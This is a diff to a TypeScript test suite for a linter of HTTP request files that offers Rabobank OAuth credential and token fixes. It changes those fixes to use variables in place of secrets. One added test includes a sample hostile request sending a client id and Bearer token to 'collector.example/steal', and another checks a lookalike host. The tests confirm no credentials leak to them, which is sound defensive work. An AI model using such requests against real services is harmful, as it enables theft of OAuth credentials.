@@ -9,6 +9,7 @@ import { KnowledgeBase } from '../../../../src/core/knowledge/knowledgeBase';
 const kb = KnowledgeBase.create();
 const NOW = Date.UTC(2026, 10, 27, 8, 0, 0);
 const profile = {
+  id: 'rabo',
   name: 'Rabo sandbox',
   clientId: 'my-client',
   clientSecret: 'my secret',
@@ -107,18 +108,40 @@ describe('request lints', () => {
     assert.ok(apply(text, d.data.fixes[0].edits).endsWith('grant_type=authorization_code&code=x'));
   });
 
-  it('adds Authorization: Basic built from the matching profile, form-encoding id and secret', () => {
+  it('adds Authorization: Basic from the profile whose token endpoint it is, as a variable, never the secret', () => {
     const text = `${TOKEN}\ngrant_type=refresh_token&refresh_token=r`;
     const d = only(text, 'lint.token.missing-client-auth');
     assert.equal(d.data.profileName, 'Rabo sandbox');
-    const fixed = apply(text, d.data.fixes[0].edits);
-    assert.match(fixed, /x-www-form-urlencoded\nAuthorization: Basic (\S+)\n\n/);
-    assert.equal(
-      basicCredentials('my-client', 'my secret'),
-      Buffer.from('my-client:my+secret').toString('base64'),
-    );
-    assert.ok(fixed.includes(`Authorization: Basic ${basicCredentials('my-client', 'my secret')}`));
+    const fix = d.data.fixes[0];
+    assert.equal(fix.isPreferred, false);
+    const fixed = apply(text, fix.edits);
+    assert.ok(fixed.includes('urlencoded\nAuthorization: Basic {{$auth.basic("rabo")}}\n\n'), fixed);
+    assert.ok(!fixed.includes(basicCredentials('my-client', 'my secret')) && !fixed.includes('my secret'));
     assert.deepEqual(codes(fixed), []);
+  });
+
+  it('offers no credentials to a hostile request that posts the victim’s client id elsewhere', () => {
+    const expired = jwt({ client_id: 'my-client', azp: 'my-client', aud: 'my-client', exp: 1 });
+    const text = [
+      'POST https://collector.example/openapi/sandbox/oauth2/token',
+      'Content-Type: application/x-www-form-urlencoded',
+      `Authorization: Basic ${Buffer.from('my-client:wrong').toString('base64')}`,
+      '',
+      'grant_type=refresh_token&refresh_token=r&client_id=my-client',
+      '',
+      '###',
+      'GET https://collector.example/steal',
+      `Authorization: Bearer ${expired}`,
+      '',
+    ].join('\n');
+    const lint: LintContext = { ...ctx, freshTokenProfile: () => 'rabo' };
+    const found = lintHttpFile(text, kb, lint);
+    assert.deepEqual(
+      found.flatMap((d) => d.data.fixes).map((f) => f.title),
+      [],
+      'neither the Basic fix nor a fresh token is offered for another host',
+    );
+    assert.ok(!found.some((d) => d.code === 'lint.token.basic-auth-profile-mismatch'));
   });
 
   it('adds a Basic header with variables when no profile matches', () => {
@@ -135,6 +158,8 @@ describe('request lints', () => {
   it('flags a Basic header whose client id differs from the profile and offers the profile one', () => {
     const text = `${TOKEN}Authorization: Basic ${Buffer.from('other:secret').toString('base64')}\n\ngrant_type=refresh_token&refresh_token=r`;
     const d = only(text, 'lint.token.basic-auth-profile-mismatch');
+    assert.equal(d.data.fixes[0].edits[0].newText, '{{$auth.basic("rabo")}}');
+    assert.equal(d.data.fixes[0].isPreferred, false);
     assert.deepEqual(codes(apply(text, d.data.fixes[0].edits)), []);
   });
 
@@ -154,20 +179,23 @@ describe('request lints', () => {
     assert.deepEqual(codes(text, { profiles: [] }), []);
   });
 
-  it('uses what the token explorer knows: expiry, a fresh token, and scopes', () => {
+  it('uses what the token explorer knows: expiry, the profile holding a fresh token, and scopes', () => {
     const lint: LintContext = {
       now: NOW,
-      profiles: [],
+      profiles: [{ ...profile, apiHosts: ['api.rabobank.nl'] }],
       findToken: (t) =>
         t === 'opaque-old'
           ? { profileName: 'Rabo', expiresAt: NOW - 1, scopes: ['prs.paymentrequest.read-write'] }
           : undefined,
-      freshAccessToken: (t) => (t === 'opaque-old' ? 'opaque-new' : undefined),
+      freshTokenProfile: (t) => (t === 'opaque-old' ? 'rabo' : undefined),
     };
     const text =
       'GET https://api.rabobank.nl/openapi/payments/account-information/ais/accounts\nAuthorization: Bearer opaque-old\n';
     const expired = only(text, 'lint.bearer.expired-token', lint);
-    assert.ok(apply(text, expired.data.fixes[0].edits).includes('Bearer opaque-new\n'));
+    assert.equal(expired.data.fixes[0].isPreferred, false);
+    assert.ok(apply(text, expired.data.fixes[0].edits).includes('Bearer {{$auth.token("rabo")}}\n'));
+    const elsewhere = text.replace('api.rabobank.nl', 'api.rabobank.nl.collector.example');
+    assert.deepEqual(only(elsewhere, 'lint.bearer.expired-token', lint).data.fixes, []);
     const scope = only(text, 'lint.rabobank.missing-scope', lint);
     assert.deepEqual(scope.data.requiredScopes, [
       'ais.balances.read',
